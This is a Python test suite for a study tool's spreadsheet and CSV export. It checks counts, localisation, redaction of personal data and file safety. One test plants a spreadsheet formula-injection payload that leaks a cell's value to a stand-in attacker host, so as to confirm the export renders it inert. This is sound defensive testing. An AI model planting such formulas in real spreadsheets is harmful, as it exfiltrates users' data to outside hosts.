"""carnet export: the workbook and the CSV tables read back with independent
readers (openpyxl, Python's csv module, LibreOffice), every figure checked
against a direct SQL count on the study; formula neutralisation; redaction;
file safety (no overwrite, temporary file, mode 0600); periods and filters."""
import csv
import glob
import io
import os
import resource
import shutil
import signal
import sqlite3
import statistics
import subprocess
import tempfile
import unittest
import warnings

import openpyxl

from harness import CarnetTest, ROOT, base_env, french_env

PARIS = {"TZ": "Europe/Paris"}
N = 700
EN_SHEETS = ["Read me", "Interactions", "Codebook", "Frequencies", "Crosstabs", "Time", "Durations",
             "Sites & observers"]
FR_SHEETS = ["Lisez-moi", "Interactions", "Grille", "Fréquences", "Tris croisés", "Temps", "Durées",
             "Sites et observateurs"]

_template = {}


def demo_study():
    """One demo study per run (a year from 2026-01-01, across both changes
    of daylight-saving time), copied by each test that uses it."""
    if "path" not in _template:
        d = tempfile.mkdtemp(prefix="carnet-export-tpl-")
        path = os.path.join(d, "tpl.db")
        r = subprocess.run([base_env()["CARNET_BIN"], "--db", path, "demo", "--interactions", str(N), "--seed", "5",
                            "--from", "2026-01-01", "--quiet"], capture_output=True, text=True,
                           env=base_env(PARIS), cwd=d)
        assert r.returncode == 0, r.stderr
        _template["path"] = path
        _template["dir"] = d
    return _template["path"]


def tearDownModule():
    if "dir" in _template:
        shutil.rmtree(_template["dir"], True)


def load(path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a repaired or odd file warns in openpyxl
        return openpyxl.load_workbook(path)


class ExportTest(CarnetTest):
    def setUp(self):
        super().setUp()
        shutil.copy(demo_study(), self.db)
        self.out = os.path.join(self.dir, "out.xlsx")

    def export(self, *args, env=None):
        e = dict(PARIS)
        e.update(env or {})
        return self.ok("export", *args, env=e)

    def live(self, where="1"):
        return self.sql("SELECT count(*) FROM interaction i WHERE deleted = 0 AND " + where)[0][0]

    def set_note(self, note, nth=0):
        ids = self.sql("SELECT id FROM interaction WHERE deleted = 0 ORDER BY started_at, id")
        con = sqlite3.connect(self.db)
        con.execute("UPDATE interaction SET note = ? WHERE id = ?", (note, ids[nth][0]))
        con.commit()
        con.close()
        return ids[nth][0]

    def rows(self, ws):
        it = ws.iter_rows(values_only=True)
        head = next(it)
        return list(head), [r for r in it]

    def interactions(self, path):
        wb = load(path)
        head, rows = self.rows(wb.worksheets[1])
        return wb, head, [dict(zip(head, r)) for r in rows]


class Workbook(ExportTest):
    def test_sheets_headers_and_every_count_match_the_study(self):
        self.export("-o", self.out)
        wb = load(self.out)
        self.assertEqual(wb.sheetnames, EN_SHEETS)
        head, rows = self.rows(wb["Interactions"])
        self.assertEqual(head[:9], ["Interaction", "Date", "Weekday", "Start", "End", "Duration (min)", "Site",
                                    "Observer", "Session"])
        self.assertEqual(head[-3:], ["Incomplete", "Tally", "Note"])
        self.assertIn("Type de demande", head)
        self.assertIn("Obstacle numérique: Pas d'équipement", head)
        self.assertEqual(len(rows), self.live())
        ids = {r[0] for r in rows}
        self.assertEqual(ids, {x for (x,) in self.sql("SELECT id FROM interaction WHERE deleted = 0")})
        # 0/1 columns of a multiple-choice code equal the SQL count
        col = head.index("Obstacle numérique: Pas d'équipement")
        self.assertEqual(sum(r[col] for r in rows),
                         self.live("id IN (SELECT interaction_id FROM interaction_code WHERE code_id = "
                                   "'obs-equipement')"))
        self.assertEqual(sum(r[head.index("Incomplete")] for r in rows), self.live("incomplete = 1"))
        self.assertEqual(sum(r[head.index("Tally")] for r in rows), self.live("tally = 1"))
        # single-choice labels
        col = head.index("Type de demande")
        caf = "CAF (RSA, prime d'activité, aides au logement)"
        self.assertEqual(sum(1 for r in rows if r[col] == caf),
                         self.live("id IN (SELECT interaction_id FROM interaction_code WHERE code_id = 'caf')"))

        # Read-me counts
        readme = {}
        for r in wb["Read me"].iter_rows(values_only=True):
            readme.setdefault(r[0], r[1])
        self.assertEqual(readme["Interactions"], self.live())
        self.assertEqual(readme["Deleted (left out)"], self.sql("SELECT count(*) FROM interaction WHERE deleted")[0][0])
        self.assertEqual(readme["Sessions"], self.sql("SELECT count(DISTINCT session_id) FROM interaction "
                                                      "WHERE deleted = 0")[0][0])
        self.assertIn("labacces-accueil version 1", "\n".join(str(r[1]) for r in
                                                              wb["Read me"].iter_rows(values_only=True)))

        # Frequencies: every row against SQL
        head, freq = self.rows(wb["Frequencies"])
        self.assertEqual(head, ["Dimension", "Code", "Label", "n", "% of interactions", "% of answers"])
        labels = dict(self.sql("SELECT label, id FROM dimension"))
        total = self.live()
        seen = 0
        for dim_label, code, label, n, p_ix, p_ans in freq:
            dim = labels[dim_label]
            if code:
                want = self.sql("SELECT count(*) FROM interaction_code c JOIN interaction i ON i.id = "
                                "c.interaction_id WHERE i.deleted = 0 AND c.dimension_id = ? AND c.code_id = ?",
                                (dim, code))[0][0]
                seen += 1
            else:
                self.assertEqual(label, "(no answer)")
                want = total - self.live("id IN (SELECT interaction_id FROM interaction_code WHERE "
                                         "dimension_id = '%s')" % dim)
            self.assertEqual(n, want, (dim, code))
            self.assertAlmostEqual(p_ix, want / total)
            if dim == "obstacle" and code:
                answers = self.sql("SELECT count(*) FROM interaction_code c JOIN interaction i ON i.id = "
                                   "c.interaction_id WHERE i.deleted = 0 AND dimension_id = 'obstacle'")[0][0]
                self.assertAlmostEqual(p_ans, want / answers)
        self.assertEqual(seen, self.sql("SELECT count(*) FROM code")[0][0])
        self.assertEqual(len(wb["Frequencies"]._charts), 4)
        self.assertEqual(len(wb["Time"]._charts), 1)

    def test_cross_tabulation_counts_and_percentages(self):
        self.export("-o", self.out)
        ws = load(self.out)["Crosstabs"]
        rows = list(ws.iter_rows(values_only=True))
        start = next(i for i, r in enumerate(rows) if r[0] == "Type de demande × Orientation")
        head = rows[start + 1]
        ncols = head.index("Total")
        col_codes = dict(self.sql("SELECT label, id FROM code WHERE dimension_id = 'orientation'"))
        row_codes = dict(self.sql("SELECT label, id FROM code WHERE dimension_id = 'demande'"))
        grand = 0
        for r in rows[start + 2:]:
            if r[0] == "Total":
                self.assertEqual(r[ncols], grand)
                break
            rowsum = r[ncols]
            for j in range(1, ncols):
                want = self.sql("SELECT count(*) FROM interaction i JOIN interaction_code a ON a.interaction_id ="
                                " i.id JOIN interaction_code b ON b.interaction_id = i.id WHERE i.deleted = 0 AND"
                                " a.code_id = ? AND b.code_id = ?", (row_codes[r[0]], col_codes[head[j]]))[0][0]
                self.assertEqual(r[j], want)
                # row % sits in the second table, to the right
                self.assertAlmostEqual(r[ncols + 2 + j], want / rowsum if rowsum else 0)
            grand += rowsum

    def test_time_durations_and_sites(self):
        self.export("-o", self.out)
        wb = load(self.out)
        rows = list(wb["Time"].iter_rows(values_only=True))
        head_i = next(i for i, r in enumerate(rows) if r[0] == "Weekday")
        head = rows[head_i]
        monday = rows[head_i + 1]
        self.assertEqual(monday[0], "Monday")
        for j, h in enumerate(head[1:-1], 1):
            want = self.live("strftime('%%w', substr(started_at, 1, 10)) = '1' AND substr(started_at, 12, 2) = "
                             "'%s'" % h[:2])
            self.assertEqual(monday[j], want, h)
        total = rows[head_i + 8]
        self.assertEqual(total[0], "Total")
        self.assertEqual(total[-1], self.live())
        weeks = [r for r in rows[head_i + 10:] if r[0] is not None]
        self.assertEqual(sum(r[1] for r in weeks[1:]), self.live())
        self.assertTrue(all(hasattr(r[0], "year") for r in weeks[1:]))  # date cells
        months = [r for r in rows[head_i + 10:] if hasattr(r[3], "year")]
        for r in months:
            self.assertEqual(r[4], self.live("substr(started_at, 1, 7) = '%s'" % r[3].strftime("%Y-%m")))
        self.assertEqual(len(months), 12)

        head, dur = self.rows(wb["Durations"])
        self.assertEqual(head[3:], ["n", "Mean (min)", "Median (min)", "90th percentile (min)"])
        got = {r[1]: r for r in dur if r[0] == "Type de demande"}
        values = [v for (v,) in self.sql(
            "SELECT unixepoch(ended_at) - unixepoch(started_at) - paused_seconds FROM interaction i "
            "JOIN interaction_code c ON c.interaction_id = i.id AND c.code_id = 'caf' "
            "WHERE deleted = 0 AND tally = 0 AND ended_at IS NOT NULL")]
        caf = got["caf"]
        self.assertEqual(caf[3], len(values))
        self.assertAlmostEqual(caf[4], statistics.mean(values) / 60)
        self.assertAlmostEqual(caf[5], statistics.median(values) / 60)
        self.assertAlmostEqual(caf[6], statistics.quantiles(values, n=10, method="inclusive")[8] / 60)
        alls = dur[0]
        self.assertEqual(alls[3], self.live("tally = 0 AND ended_at IS NOT NULL"))

        rows = list(wb["Sites & observers"].iter_rows(values_only=True))
        self.assertEqual(rows[0][:2], ("Site", "Interactions"))
        for r in rows[1:]:
            if r[0] is None:
                break
            self.assertEqual(r[1], self.live("site_id = (SELECT id FROM site WHERE name = '%s')" % r[0]))
            if r[7]:
                self.assertEqual(r[8], self.live("observer_id = (SELECT id FROM observer WHERE name = '%s')"
                                                 % r[7]))
        head_i = next(i for i, r in enumerate(rows) if r[0] == "Dimension")
        head = rows[head_i]
        for r in rows[head_i + 1:]:
            for j, name in enumerate(head[3:], 3):
                if name is None:
                    continue
                col = "site_id" if j < head.index(None, 3) else "observer_id"
                table = "site" if col == "site_id" else "observer"
                self.assertEqual(r[j], self.live("%s = (SELECT id FROM %s WHERE name = '%s') AND id IN (SELECT "
                                                 "interaction_id FROM interaction_code WHERE code_id = '%s')"
                                                 % (col, table, name, r[1])), (name, r[1]))

    def test_dates_are_date_cells_in_local_time_across_dst(self):
        self.export("-o", self.out)
        wb, head, rows = self.interactions(self.out)
        ws = wb["Interactions"]
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertTrue(ws.auto_filter.ref.startswith("A1:"))
        cell = ws["B2"]
        self.assertTrue(cell.is_date)
        self.assertEqual(ws["D2"].number_format, "yyyy-mm-dd hh:mm:ss")
        stored = dict(self.sql("SELECT id, started_at FROM interaction"))
        offsets = set()
        for r in rows:
            ts = stored[r["Interaction"]]
            offsets.add(ts[19:])
            self.assertEqual(r["Start"].strftime("%Y-%m-%dT%H:%M:%S"), ts[:19])
            self.assertEqual(r["Date"].strftime("%Y-%m-%d"), ts[:10])
        self.assertEqual(offsets, {"+01:00", "+02:00"})
        d = next(r for r in rows if r["Duration (min)"] is not None)
        self.assertIsInstance(d["Duration (min)"], float)

    def test_french_sheet_names_and_headers(self):
        self.export("-o", self.out, env=french_env())
        wb = load(self.out)
        self.assertEqual(wb.sheetnames, FR_SHEETS)
        head, _ = self.rows(wb["Interactions"])
        self.assertEqual(head[:6], ["Interaction", "Date", "Jour", "Début", "Fin", "Durée (min)"])
        self.assertIn(wb["Interactions"]["C2"].value,
                      {"lundi", "mardi", "mercredi", "jeudi", "vendredi", "samedi", "dimanche"})
        readme = [r[0] for r in wb["Lisez-moi"].iter_rows(values_only=True) if r[0]]
        self.assertIn("Versions de la grille utilisées", readme)

    def test_codebook_sheet_has_every_definition_field(self):
        self.export("-o", self.out)
        head, rows = self.rows(load(self.out)["Codebook"])
        self.assertEqual(head[7:11], ["Definition", "When to use", "When not to use", "Example"])
        self.assertEqual(len(rows), self.sql("SELECT count(*) FROM code")[0][0])
        caf = next(r for r in rows if r[4] == "caf")
        want = self.sql("SELECT definition, when_to_use, when_not_to_use, example FROM code WHERE id = 'caf'")[0]
        self.assertEqual(tuple(caf[7:11]), want)

    def test_libreoffice_opens_every_sheet(self):
        soffice = shutil.which("soffice") or shutil.which("libreoffice")
        if not soffice:
            self.skipTest("LibreOffice (libreoffice-calc-nogui) is not installed: `make deps-test` installs it")
        self.export("-o", self.out)
        outdir = os.path.join(self.dir, "lo")
        profile = "file://" + os.path.join(self.dir, "lo-profile")
        # -1 as the last token exports each sheet to its own CSV file.
        r = subprocess.run([soffice, "-env:UserInstallation=" + profile, "--headless", "--norestore",
                            "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,'
                            'false,-1', "--outdir", outdir, self.out], capture_output=True, text=True, timeout=300)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        files = sorted(glob.glob(os.path.join(outdir, "*.csv")))
        self.assertEqual(len(files), len(EN_SHEETS), r.stdout + r.stderr)
        inter = next(f for f in files if f.endswith("-Interactions.csv"))
        with open(inter, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        self.assertEqual(len(rows) - 1, self.live())


class Safety(ExportTest):
    def test_a_formula_in_a_note_comes_out_inert(self):
        evil = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
        ix = self.set_note(evil)
        self.set_note("@SUM(1+1)", 1)
        self.export("-o", self.out)
        wb, head, rows = self.interactions(self.out)
        row = next(r for r in rows if r["Interaction"] == ix)
        self.assertEqual(row["Note"], "'" + evil)
        c = next(c for c in wb["Interactions"]["A"] if c.value == ix)
        note = wb["Interactions"].cell(row=c.row, column=head.index("Note") + 1)
        self.assertEqual(note.data_type, "s")
        self.export("--format", "csv", "-o", os.path.join(self.dir, "t.csv"))
        with open(os.path.join(self.dir, "t-wide.csv"), encoding="utf-8", newline="") as f:
            notes = [r["note"] for r in csv.DictReader(f)]
        self.assertIn("'" + evil, notes)
        self.assertIn("'@SUM(1+1)", notes)

    def test_every_kind_of_personal_data_is_redacted_by_default(self):
        raw = ("Mme Roussel a vu nadia.martin@exemple.test, tél 06 12 34 56 78 ou +33 6 98 76 54 32, "
               "NIR 1 85 05 78 006 084 36, IBAN FR76 3000 6000 0112 3456 7890 189, carte 4970 1012 3456 7893, "
               "née le 12/03/1985")
        ix = self.set_note(raw)
        self.export("-o", self.out)
        _, _, rows = self.interactions(self.out)
        note = next(r for r in rows if r["Interaction"] == ix)["Note"]
        self.assertEqual(note, "Mme Roussel a vu [EMAIL], tél [TEL] ou [TEL], NIR [NIR], IBAN [IBAN], "
                               "carte [CARTE], née le [DATE_NAISSANCE]")
        # no demo note keeps a phone number, an e-mail address or a long number
        for r in rows:
            n = r["Note"] or ""
            self.assertNotRegex(n, r"@|\d{2}[ .]?\d{2}[ .]?\d{2}[ .]?\d{2}[ .]?\d{2}", n)
        # the study's own rules, beside it, extend the shipped ones
        self.write("study.redaction.rules", "# agents de l'accueil\nAGENT  \\b(?:Mme|M\\.) Roussel\\b\n")
        self.export("-o", self.out, "--force")
        _, _, rows = self.interactions(self.out)
        self.assertTrue(next(r for r in rows if r["Interaction"] == ix)["Note"].startswith("[AGENT] a vu [EMAIL]"))

    def test_notes_raw_and_none(self):
        ix = self.set_note("rappeler le 06 12 34 56 78")
        self.export("-o", self.out, "--notes", "raw")
        _, _, rows = self.interactions(self.out)
        self.assertEqual(next(r for r in rows if r["Interaction"] == ix)["Note"], "rappeler le 06 12 34 56 78")
        self.export("-o", self.out, "--notes", "none", "--force")
        _, head, _ = self.interactions(self.out)
        self.assertNotIn("Note", head)
        r = self.carnet("export", "-o", self.out, "--notes", "some")
        self.assertEqual(r.returncode, 2)
        self.assertIn("--notes takes none, redacted or raw", r.stderr)

    def test_bad_rule_file_is_reported_with_its_position(self):
        rules = self.write("bad.rules", "OK  abc\nBAD  (unclosed\n")
        r = self.carnet("export", "-o", self.out, "--redact-rules", rules)
        self.assertEqual(r.returncode, 1)
        self.assertRegex(r.stderr, r"bad\.rules:2:\d+: invalid pattern")
        self.assertFalse(os.path.exists(self.out))

    def test_existing_file_is_kept_without_force_and_files_are_private(self):
        old = os.umask(0o022)
        try:
            self.export("-o", self.out)
            self.assertEqual(os.stat(self.out).st_mode & 0o777, 0o600)
            before = os.stat(self.out).st_mtime_ns
            r = self.carnet("export", "-o", self.out)
            self.assertEqual(r.returncode, 1)
            self.assertIn("already exists; use --force", r.stderr)
            self.assertEqual(os.stat(self.out).st_mtime_ns, before)
            self.export("-o", self.out, "--force")
            self.export("--format", "csv", "-o", os.path.join(self.dir, "t.csv"))
            for f in ("t-wide.csv", "t-long.csv"):
                self.assertEqual(os.stat(os.path.join(self.dir, f)).st_mode & 0o777, 0o600)
        finally:
            os.umask(old)
        self.assertEqual([f for f in os.listdir(self.dir) if ".tmp-" in f], [])

    def test_sheets_option_writes_only_those(self):
        r = self.export("-o", self.out, "--sheets", "interactions,durations", "--verbose")
        self.assertEqual(load(self.out).sheetnames, ["Interactions", "Durations"])
        self.assertRegex(r.stderr, r"  Interactions: \d+\.\d s\n  Durations: \d+\.\d s\n")
        r = self.carnet("export", "-o", self.out, "--sheets", "interactions,nope")
        self.assertEqual(r.returncode, 2)
        self.assertIn("unknown sheet 'nope'", r.stderr)
        self.assertEqual(self.carnet("export", "--format", "csv", "--sheets", "time").returncode, 2)

    def test_installed_tree_finds_its_redaction_rules(self):
        dest = os.path.join(self.dir, "pkg")
        r = subprocess.run(["make", "--no-print-directory", "-C", ROOT, "install", "PREFIX=/opt/c", "DESTDIR=" + dest],
                           capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertTrue(os.path.exists(dest + "/opt/c/share/carnet/codebooks/redaction.rules"))
        env = base_env(PARIS)
        del env["CARNET_DATADIR"]
        self.set_note("écrire à x.y@exemple.test")
        r = subprocess.run([dest + "/opt/c/bin/carnet", "--db", self.db, "export", "-o", self.out], capture_output=True,
                           text=True, env=env, cwd=self.dir)
        self.assertEqual(r.returncode, 0, r.stderr)
        _, _, rows = self.interactions(self.out)
        self.assertIn("écrire à [EMAIL]", [x["Note"] for x in rows])

    def test_a_failed_write_leaves_nothing_under_the_final_name(self):
        r = self.carnet("export", "-o", os.path.join(self.dir, "missing", "x.xlsx"))
        self.assertEqual(r.returncode, 1)
        self.assertIn("cannot write", r.stderr)

        def small_disk():
            # A file-size limit stands for a full disk; SIGXFSZ ignored so
            # that the write fails with EFBIG instead of killing carnet.
            resource.setrlimit(resource.RLIMIT_FSIZE, (200000, 200000))
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)

        for fmt in ("xlsx", "csv"):
            out = os.path.join(self.dir, "big." + fmt)
            r = subprocess.run([base_env()["CARNET_BIN"], "--db", self.db, "export", "--format", fmt, "-o", out],
                               capture_output=True, text=True, env=base_env(PARIS), cwd=self.dir,
                               preexec_fn=small_disk)
            self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
            self.assertEqual(len(r.stderr.strip().splitlines()), 1, r.stderr)
            self.assertEqual([f for f in os.listdir(self.dir) if f.startswith("big")], [])

    def test_default_name_in_exports_folder(self):
        self.export("--quarter", "2026Q3")
        self.assertTrue(os.path.exists(os.path.join(self.dir, "exports", "tpl-2026Q3.xlsx")))


class Filters(ExportTest):
    def test_period_site_and_observer_filters(self):
        self.export("-o", self.out, "--month", "2026-03")
        _, _, rows = self.interactions(self.out)
        self.assertEqual(len(rows), self.live("started_at >= '2026-03-01' AND started_at < '2026-04-01'"))
        self.export("-o", self.out, "--force", "--from", "2026-03-30", "--to", "2026-04-03",
                    "--site", "CDAS Rennes Nord", "--site", "Mairie de Fougères")
        _, _, rows = self.interactions(self.out)
        self.assertEqual(len(rows), self.live(
            "started_at >= '2026-03-30' AND started_at < '2026-04-04' AND site_id IN (SELECT id FROM site WHERE "
            "name IN ('CDAS Rennes Nord', 'Mairie de Fougères'))"))
        self.assertEqual({r["Site"] for r in rows} - {"CDAS Rennes Nord", "Mairie de Fougères"}, set())
        self.export("-o", self.out, "--force", "--observer", "Camille")
        _, _, rows = self.interactions(self.out)
        self.assertEqual({r["Observer"] for r in rows}, {"Camille"})

    def test_bad_dates_periods_and_names_are_clear_errors(self):
        for args, msg in ((("--quarter", "2026Q5"), "invalid quarter '2026Q5'"),
                          (("--month", "2026-13"), "invalid month"),
                          (("--from", "2026-02-30"), "invalid date '2026-02-30'"),
                          (("--from", "2026-05-01", "--to", "2026-04-01"), "starts (2026-05-01) after it ends"),
                          (("--year", "2026", "--month", "2026-01"), "one way only"),
                          (("--site", "Nulle part"), "no site named 'Nulle part'")):
            r = self.carnet("export", "-o", self.out, *args)
            self.assertEqual(r.returncode, 1, args)
            self.assertIn(msg, r.stderr)
            self.assertEqual(len(r.stderr.strip().splitlines()), 1, r.stderr)
        r = self.carnet("export", "--excel-fr")
        self.assertEqual(r.returncode, 2)
        r = self.carnet("export", "--format", "ods")
        self.assertEqual(r.returncode, 2)

    def test_renamed_and_retired_codes_count_by_stable_id(self):
        v2 = open(os.path.join(ROOT, "codebooks", "labacces-accueil.yaml"), encoding="utf-8").read()
        v2 = v2.replace("version: 1", "version: 2", 1)
        v2 = v2.replace("label: CAF (RSA, prime d'activité, aides au logement)", "label: CAF renommée", 1)
        v2 = v2.replace("      - id: msa\n        key: m\n", "      - id: msa\n        retired: true\n", 1)
        self.ok("codebook", "import", self.write("v2.yaml", v2))
        self.ok("demo", "--interactions", "100", "--seed", "9", "--from", "2026-06-01", "--days", "30", "--quiet",
                env=PARIS)
        self.export("-o", self.out)
        wb = load(self.out)
        _, freq = self.rows(wb["Frequencies"])
        caf = [r for r in freq if r[1] == "caf"]
        self.assertEqual(len(caf), 1)
        self.assertEqual(caf[0][2], "CAF renommée")
        self.assertEqual(caf[0][3], self.live("id IN (SELECT interaction_id FROM interaction_code WHERE "
                                               "code_id = 'caf')"))
        msa = [r for r in freq if r[1] == "msa"]
        self.assertEqual(msa[0][3], self.live("id IN (SELECT interaction_id FROM interaction_code WHERE "
                                               "code_id = 'msa')"))
        self.assertGreater(msa[0][3], 0)
        text = "\n".join(str(r[1]) for r in wb["Read me"].iter_rows(values_only=True))
        self.assertIn("labacces-accueil version 1", text)
        self.assertIn("labacces-accueil version 2", text)


TINY = """carnet_codebook: 1
id: tiny
title: Tiny
language: fr
version: 1
dimensions:
  - id: motif
    label: Motif
    mode: single
    required: true
    codes:
      - {id: papiers, key: p, label: Papiers, definition: x, when_to_use: x, when_not_to_use: x, example: x}
      - {id: autre, key: a, label: Autre, other: true, definition: x, when_to_use: x, when_not_to_use: x,
         example: x}
  - id: commune
    label: Code postal
    mode: text
    required: true
    validate: '^\\d{5}$'
"""


class OtherCodebooks(CarnetTest):
    def test_free_text_dimension_and_other_specify_columns(self):
        self.init("--codebook", self.write("tiny.yaml", TINY))
        self.ok("demo", "--interactions", "150", "--seed", "4", "--quiet")
        out = os.path.join(self.dir, "t.xlsx")
        self.ok("export", "-o", out)
        wb = load(out)
        head, *rows = list(wb["Interactions"].iter_rows(values_only=True))
        self.assertEqual(head[9:12], ("Motif", "Motif: Autre (specified)", "Code postal"))
        texts = dict(self.sql("SELECT i.id, t.text FROM interaction_text t JOIN interaction i ON i.id = "
                              "t.interaction_id WHERE i.deleted = 0"))
        self.assertEqual({r[0]: r[11] for r in rows if r[11]}, texts)
        self.assertTrue(all(r[10] for r in rows if r[9] == "Autre"))
        self.assertEqual(len(wb["Frequencies"]._charts), 1)
        self.ok("export", "--format", "csv", "-o", os.path.join(self.dir, "t.csv"))
        with open(os.path.join(self.dir, "t-long.csv"), encoding="utf-8", newline="") as f:
            long = [r for r in csv.DictReader(f) if r["dimension"] == "commune"]
        self.assertEqual(len(long), len(texts))
        self.assertTrue(all(r["code"] == "" and r["text"] for r in long))

    def test_an_empty_study_exports_empty_tables(self):
        self.init()
        out = os.path.join(self.dir, "e.xlsx")
        self.ok("export", "-o", out)
        wb = load(out)
        self.assertEqual(wb["Interactions"].max_row, 1)
        counts = [r[1] for r in wb["Read me"].iter_rows(values_only=True) if r[0] == "Interactions"]
        self.assertEqual(counts[0], 0)
        self.assertIn("0 interactions", self.ok("stats").stdout)


class Csv(ExportTest):
    def read(self, path, **kw):
        with open(path, encoding=kw.pop("encoding", "utf-8"), newline="") as f:
            return list(csv.DictReader(f, **kw))

    def test_wide_and_long_tables_read_back(self):
        self.set_note('dit "bonjour", puis\nrevient, avec; tout')
        self.export("--format", "csv", "-o", os.path.join(self.dir, "t.csv"))
        wide = self.read(os.path.join(self.dir, "t-wide.csv"))
        self.assertEqual(len(wide), self.live())
        self.assertEqual(list(wide[0])[:6], ["uuid", "date", "weekday", "start", "end", "duration_min"])
        self.assertIn('dit "bonjour", puis\nrevient, avec; tout', [r["note"] for r in wide])
        self.assertEqual(sum(int(r["obstacle.obs-email"]) for r in wide),
                         self.live("id IN (SELECT interaction_id FROM interaction_code WHERE code_id = 'obs-email')"))
        d = next(r for r in wide if r["duration_min"])
        float(d["duration_min"])
        raw = open(os.path.join(self.dir, "t-wide.csv"), "rb").read()
        self.assertIn(b"\r\n", raw)
        self.assertFalse(raw.startswith(b"\xef\xbb\xbf"))
        long = self.read(os.path.join(self.dir, "t-long.csv"))
        self.assertEqual(list(long[0]), ["uuid", "date", "start", "site", "observer", "dimension", "dimension_label",
                                         "code", "code_label", "text"])
        self.assertEqual(len(long), self.sql("SELECT count(*) FROM interaction_code c JOIN interaction i ON i.id = "
                                             "c.interaction_id WHERE deleted = 0")[0][0])
        other = [r for r in long if r["code"] == "dem-autre"]
        self.assertTrue(other and all(r["text"] for r in other))

    def test_excel_fr_uses_semicolons_decimal_commas_and_a_bom(self):
        self.export("--format", "csv", "--excel-fr", "-o", os.path.join(self.dir, "t.csv"))
        raw = open(os.path.join(self.dir, "t-wide.csv"), "rb").read()
        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"))
        wide = self.read(os.path.join(self.dir, "t-wide.csv"), encoding="utf-8-sig", delimiter=";")
        self.assertEqual(len(wide), self.live())
        d = [r["duration_min"] for r in wide if r["duration_min"]]
        self.assertTrue(all("," in x and "." not in x for x in d))


class Stats(ExportTest):
    def test_frequencies_and_cross_tabulation_in_the_terminal(self):
        r = self.ok("stats", "--cross", "demande,orientation")
        caf = self.live("id IN (SELECT interaction_id FROM interaction_code WHERE code_id = 'caf')")
        line = next(l for l in r.stdout.splitlines() if l.strip().startswith("caf "))
        self.assertIn(" %d " % caf, line)
        self.assertIn("Type de demande × Orientation — counts", r.stdout)
        self.assertIn("%d interactions" % self.live(), r.stdout)
        # columns stay aligned whatever the accents
        lines = [l for l in r.stdout.splitlines() if l.startswith("  ") and "%" in l][:15]
        self.assertEqual(len({len(l) for l in lines[1:14]}), 1, lines)
        fr = self.ok("stats", "--quarter", "2026Q1", env=french_env())
        self.assertRegex(fr.stdout, r"\d+,\d %")
        bad = self.carnet("stats", "--cross", "demande,nothing")
        self.assertEqual(bad.returncode, 1)
        self.assertIn("'nothing' is not a coded dimension", bad.stderr)
        self.assertEqual(self.carnet("stats", "--cross", "demande").returncode, 2)


if __name__ == "__main__":
    unittest.main()
